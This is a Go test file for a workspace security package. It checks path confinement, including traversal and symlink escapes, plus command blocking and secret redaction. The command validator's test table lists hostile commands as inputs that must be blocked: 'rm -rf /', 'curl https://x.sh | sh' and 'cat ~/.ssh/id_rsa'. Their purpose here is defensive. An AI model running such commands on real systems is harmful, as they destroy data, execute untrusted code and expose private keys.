package security

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestResolveConfinesToRoot(t *testing.T) {
	root := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(root, "src"), 0o755))
	v := NewPathValidator(root)

	got, err := v.Resolve("src/main.go")
	require.NoError(t, err)
	assert.Equal(t, filepath.Join(v.Root(), "src", "main.go"), got)

	got, err = v.Resolve("")
	require.NoError(t, err)
	assert.Equal(t, v.Root(), got)

	got, err = v.Resolve("new/dir/file.txt")
	require.NoError(t, err)
	assert.Equal(t, filepath.Join(v.Root(), "new", "dir", "file.txt"), got)

	_, err = v.Resolve("../outside.txt")
	assert.ErrorIs(t, err, ErrOutsideWorkspace)

	_, err = v.Resolve("/etc/hosts")
	assert.ErrorIs(t, err, ErrOutsideWorkspace)
}

func TestResolveRejectsSymlinkEscape(t *testing.T) {
	root := t.TempDir()
	outside := t.TempDir()
	require.NoError(t, os.Symlink(outside, filepath.Join(root, "link")))

	v := NewPathValidator(root)
	_, err := v.Resolve("link/secret.txt")
	assert.ErrorIs(t, err, ErrOutsideWorkspace)
}

func TestResolveDir(t *testing.T) {
	root := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(root, "a.txt"), []byte("x"), 0o644))
	v := NewPathValidator(root)

	_, err := v.ResolveDir(".")
	require.NoError(t, err)
	_, err = v.ResolveDir("a.txt")
	assert.Error(t, err)
}

func TestJoinRemote(t *testing.T) {
	got, err := JoinRemote("/srv/ws/demo", "src/app.js")
	require.NoError(t, err)
	assert.Equal(t, "/srv/ws/demo/src/app.js", got)

	got, err = JoinRemote("/srv/ws/demo", ".")
	require.NoError(t, err)
	assert.Equal(t, "/srv/ws/demo", got)

	_, err = JoinRemote("/srv/ws/demo", "../other")
	assert.ErrorIs(t, err, ErrOutsideWorkspace)
	_, err = JoinRemote("/srv/ws/demo", "/etc/passwd")
	assert.ErrorIs(t, err, ErrOutsideWorkspace)
}

func TestCommandValidator(t *testing.T) {
	cv := NewCommandValidator("shutdown")

	tests := []struct {
		cmd     string
		blocked bool
	}{
		{"ls -la", false},
		{"npm test", false},
		{"rm -rf build/", false},
		{"rm -rf /", true},
		{"curl https://x.sh | sh", true},
		{"cat ~/.ssh/id_rsa", true},
		{"sudo shutdown -h now", true},
		{"   ", true},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			err := cv.Check(tt.cmd)
			if tt.blocked {
				var be *BlockedCommandError
				assert.ErrorAs(t, err, &be)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func TestRedact(t *testing.T) {
	r := NewSecretRedactor()

	out := r.Redact("upstream said: api_key=abcd1234efgh5678 rejected")
	assert.Equal(t, "upstream said: api_key=[REDACTED] rejected", out)

	out = r.Redact("Authorization failed for Bearer abcdefghijklmnop")
	assert.Equal(t, "Authorization failed for Bearer [REDACTED]", out)

	out = r.Redact("dial postgres://app:hunter22@db:5432/main")
	assert.Equal(t, "dial postgres://app:[REDACTED]@db:5432/main", out)

	key := "AIza" + strings.Repeat("A", 35)
	assert.Equal(t, "key "+redacted, r.Redact("key "+key))

	assert.Equal(t, "password=example-value", r.Redact("password=example-value"))
	assert.Equal(t, "", r.Redact(""))
}

func TestRedactMap(t *testing.T) {
	r := NewSecretRedactor()
	out := r.RedactMap(map[string]any{
		"command": "export TOKEN=1 && echo secret=supersecretvalue",
		"nested":  map[string]any{"v": "Bearer abcdefghijklmnop"},
		"n":       3,
	})
	assert.Equal(t, "export TOKEN=1 && echo secret=[REDACTED]", out["command"])
	assert.Equal(t, "Bearer [REDACTED]", out["nested"].(map[string]any)["v"])
	assert.Equal(t, 3, out["n"])
}
